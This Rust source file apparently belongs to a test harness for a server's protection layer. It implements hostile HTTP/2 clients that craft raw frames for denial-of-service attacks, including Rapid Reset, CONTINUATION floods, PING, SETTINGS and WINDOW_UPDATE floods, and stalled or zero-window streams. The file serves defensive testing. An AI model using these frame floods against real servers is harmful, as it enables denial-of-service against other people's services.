//! Hostile clients over HTTP/2, which send raw frames.

use std::{cell::Cell, io, time::Duration};

use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::tcp::ReadHalf,
    select,
    sync::mpsc::{UnboundedSender, unbounded_channel},
    time::{Instant, interval},
};

use super::Client;
use crate::kind::Attack;

/// The connection preface (RFC 9113, 3.4).
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// `SETTINGS_INITIAL_WINDOW_SIZE` of 0 (RFC 9113, 6.5.2).
const NO_WINDOW: &[u8] = &[0, 4, 0, 0, 0, 0];

// Frame types and flags (RFC 9113, 6).
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const ACK: u8 = 1;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// The error code `CANCEL` (RFC 9113, 7).
const CANCEL: &[u8] = &[0, 0, 0, 8];

/// The ticks per second at which the frames of a flood are sent.
const TICKS: u32 = 50;

/// A flood goes on at this share of its rate when the attack waits for the end; one of requests does not go on, as
/// clients that make requests are not cut.
const LESS: u32 = 20;

/// The requests of a client that takes no response: as many as guard accepts on a connection.
const STREAMS: u32 = 100;

/// The frames of a client.
struct Frames {
    attack: Attack,
    /// The next stream.
    stream: u32,
}

impl Client<'_> {
    /// Sends the frames of the attack until the connection ends. Answers pings and settings, and drops all else.
    pub(super) async fn http2(mut self) -> io::Result<()> {
        let mut frames = Frames {
            attack: self.kind.attack,
            stream: 1,
        };
        let (reads, mut writes) = self.stream.split();
        let (answers, mut to_send) = unbounded_channel();
        let is_idle = self.kind.attack == Attack::IdleStreams;
        let reading = read(reads, &answers, is_idle.then_some(self.since));
        let sending = async {
            writes.write_all(&frames.opening()).await?;
            let mut ticks = interval(Duration::from_secs(1) / TICKS);
            let mut nth = 0;
            loop {
                select! {
                    Some(answer) = to_send.recv() => writes.write_all(&answer).await?,
                    _ = ticks.tick(), if self.kind.rate > 1 => {
                        nth += 1;
                        let makes_requests = self.kind.attack == Attack::RapidReset;
                        if !self.state.waits.get() || (nth % LESS == 0 && !makes_requests) {
                            let burst = frames.burst(self.kind.rate / TICKS);
                            writes.write_all(&burst).await?;
                            if makes_requests {
                                self.since.set(Instant::now());
                            }
                        }
                    }
                }
            }
        };
        select! {
            ended = reading => ended,
            failed = sending => failed,
        }
    }
}

/// Reads frames until the connection ends, and passes on the answers to pings and settings. Sets `since` at the
/// end of a response.
async fn read(
    mut reads: ReadHalf<'_>,
    answers: &UnboundedSender<Vec<u8>>,
    since: Option<&Cell<Instant>>,
) -> io::Result<()> {
    let mut bytes = Vec::new();
    while reads.read_buf(&mut bytes).await? > 0 {
        while let Some((&[a, b, c, kind, flags, ..], _)) = bytes.split_first_chunk::<9>() {
            let end = 9 + u32::from_be_bytes([0, a, b, c]) as usize;
            if bytes.len() < end {
                break;
            }
            let answer = match kind {
                PING if flags & ACK == 0 => Some(frame(PING, ACK, 0, &bytes[9..end])),
                SETTINGS if flags & ACK == 0 => Some(frame(SETTINGS, ACK, 0, &[])),
                DATA if flags & END_STREAM != 0 => {
                    since.inspect(|since| since.set(Instant::now()));
                    None
                }
                _ => None,
            };
            // The sending half ends only with the connection.
            answer.map(|answer| answers.send(answer));
            bytes.drain(..end);
        }
    }
    Ok(())
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("a short payload");
    let mut frame = length.to_be_bytes()[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend_from_slice(payload);
    frame
}

/// Encodes the fields of a request: indexed ones, and literals of less than 127 bytes with an indexed name
/// (RFC 7541, 6.1, 6.2.2 and appendix A).
fn head(method: u8, path: &str) -> Vec<u8> {
    const SCHEME_HTTP: u8 = 0x86;
    let mut block = vec![method, SCHEME_HTTP];
    for (name, value) in [(4, path), (1, "app.example")] {
        block.extend([name, u8::try_from(value.len()).expect("a short value")]);
        block.extend_from_slice(value.as_bytes());
    }
    block
}

// === impl Frames ===

impl Frames {
    const GET: u8 = 0x82;
    const POST: u8 = 0x83;

    /// The preface, and the frames before the first burst.
    fn opening(&mut self) -> Vec<u8> {
        let no_window = self.attack == Attack::UnreadStreams;
        let settings = if no_window { NO_WINDOW } else { &[] };
        let mut bytes = [PREFACE, &frame(SETTINGS, 0, 0, settings)].concat();
        match self.attack {
            Attack::UnreadStreams | Attack::StalledStreams => {
                for _ in 0..STREAMS {
                    bytes.extend(self.get("/large/131072"));
                }
            }
            Attack::IdleStreams => bytes.extend(self.get("/page")),
            Attack::Continuation => {
                let block = head(Self::GET, "/page");
                bytes.extend(frame(HEADERS, END_STREAM, self.stream, &block));
            }
            Attack::EmptyData => bytes.extend(self.post()),
            _ => {}
        }
        bytes
    }

    /// So many frames of a flood.
    fn burst(&mut self, count: u32) -> Vec<u8> {
        (0..count).flat_map(|_| self.one()).collect()
    }

    fn one(&mut self) -> Vec<u8> {
        match self.attack {
            Attack::Settings => frame(SETTINGS, 0, 0, &[]),
            Attack::Pings => frame(PING, 0, 0, &[0; 8]),
            Attack::WindowUpdates => frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]),
            Attack::RapidReset => {
                let stream = self.stream;
                [self.get("/page"), frame(RST_STREAM, 0, stream, CANCEL)].concat()
            }
            Attack::Continuation => {
                // `x`, with a value of 1,000 bytes (RFC 7541, 5.1 and 6.2.2).
                let mut block = vec![0, 1, b'x', 0x7f, 0xe9, 0x06];
                block.extend([b'x'; 1000]);
                frame(CONTINUATION, 0, self.stream, &block)
            }
            Attack::Headers => self.post(),
            Attack::EmptyData => frame(DATA, 0, self.stream - 2, &[]),
            _ => Vec::new(),
        }
    }

    /// A whole request.
    fn get(&mut self, path: &str) -> Vec<u8> {
        self.headers(END_HEADERS | END_STREAM, &head(Self::GET, path))
    }

    /// A request whose body does not begin.
    fn post(&mut self) -> Vec<u8> {
        self.headers(END_HEADERS, &head(Self::POST, "/page"))
    }

    fn headers(&mut self, flags: u8, block: &[u8]) -> Vec<u8> {
        let stream = self.stream;
        self.stream += 2;
        frame(HEADERS, flags, stream, block)
    }
}
